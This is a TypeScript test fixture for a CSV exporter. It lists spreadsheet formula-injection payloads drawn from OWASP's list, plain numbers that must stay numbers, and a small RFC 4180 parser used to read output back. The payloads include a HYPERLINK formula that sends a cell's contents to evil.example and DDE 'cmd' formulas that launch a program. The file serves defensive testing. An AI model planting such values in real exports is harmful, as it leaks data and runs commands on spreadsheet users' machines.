/** Cell values a spreadsheet would run as formulas (OWASP's CSV injection list and variants): UTM values anyone can set. */
export const CSV_FORMULA_ATTACKS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-1+1+cmd|' /C calc'!A0",
  '-2+3',
  '-1e5',
  '-',
  '--1',
  '-12.50.1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\t-12.50',
  '=1+1\n=2+2',
]

/** Values that are genuine numbers and stay numbers. */
export const CSV_PLAIN_NUMBERS: readonly string[] = ['0', '42', '1234.50', '-12.50', '-3']

/** The cells of an RFC 4180 document, for tests that read back what a writer wrote. */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let index = 0; index < text.length; index++) {
    const char = text[index] as string
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"'
        index++
      } else if (char === '"') quoted = false
      else cell += char
    } else if (char === '"' && cell === '') quoted = true
    else if (char === ',') {
      row.push(cell)
      cell = ''
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      index++
    } else cell += char
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell])
  return rows
}
